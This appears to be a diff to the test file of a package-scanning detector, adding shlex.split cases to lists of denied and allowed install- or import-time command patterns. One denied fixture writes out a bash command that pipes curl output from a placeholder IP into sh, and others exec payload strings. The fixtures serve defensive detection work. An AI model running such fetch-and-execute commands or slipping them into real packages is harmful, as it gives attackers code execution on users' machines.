@@ -7,6 +7,7 @@ a string built by ``+`` or an f-string keeps its known head tries next.
   known text of its items when its start is written, as ``+`` does.
 * The built string passed through ``strip``, ``replace``, ``encode`` or ``decode``, or the
   payload added as bytes (``P.encode() + x.encode()``): the same text runs.
+* A command split by ``shlex.split`` (a literal, or a string built from a written start).
 * A command list written with an unknown item into a variable (``c = ['bash', '-c', CMD,
   x]; run(c)``): it keeps its words, as ``LIST + x`` does (ADR 0153).
 * A platform switch: ``CMD if os.name == 'posix' else WIN``, ``CMDS[sys.platform]``,
@@ -121,6 +122,14 @@ DENIED: dict[str, dict[str, str]] = {
     "shell-list-written-with-an-argument-in-setup-py": on_install(
         f"c = ('sh', '-c', CURL, {X})\nsubprocess.check_call(c)\n"
     ),
+    "shell-command-split-by-shlex": on_import(
+        "import shlex\n"
+        "subprocess.run(shlex.split('bash -c \"curl -s http://203.0.113.5/x | sh\"'))\n"
+    ),
+    "shell-command-formatted-then-split-by-shlex": on_import(
+        f"import shlex\ncmd = 'bash -c \"{{}}\" {{}}'.format(CURL, {X})\n"
+        "subprocess.run(shlex.split(cmd))\n"
+    ),
     # Passed through a method that keeps its text, or added as bytes.
     "payload-stripped": on_import(f"code = (P + {X}).strip()\nexec(code)\n"),
     "payload-replaced": on_import(f"code = (P + {X}).replace('#', '')\nexec(code)\n"),
@@ -201,6 +210,13 @@ DENIED: dict[str, dict[str, str]] = {
 }
 
 ALLOWED: dict[str, dict[str, str]] = {
+    "cmake-command-split-by-shlex-in-setup-py": built(
+        "import shlex\nsubprocess.check_call(shlex.split('cmake -S . -B build'))\n"
+    ),
+    "flags-split-by-shlex-in-setup-py": built(
+        "import shlex\nflags = shlex.split(os.environ.get('CFLAGS', ''))\n"
+        "subprocess.check_call(['cc', '-c', 'probe.c'] + flags)\n"
+    ),
     "c-probe-written-and-compiled-in-setup-py": built(
         "with open('conftest.c', 'w') as f:\n    f.write('int main(void) { return 0; }\\n')\n"
         "ok = subprocess.call(['cc', 'conftest.c', '-o', 'conftest']) == 0\n"
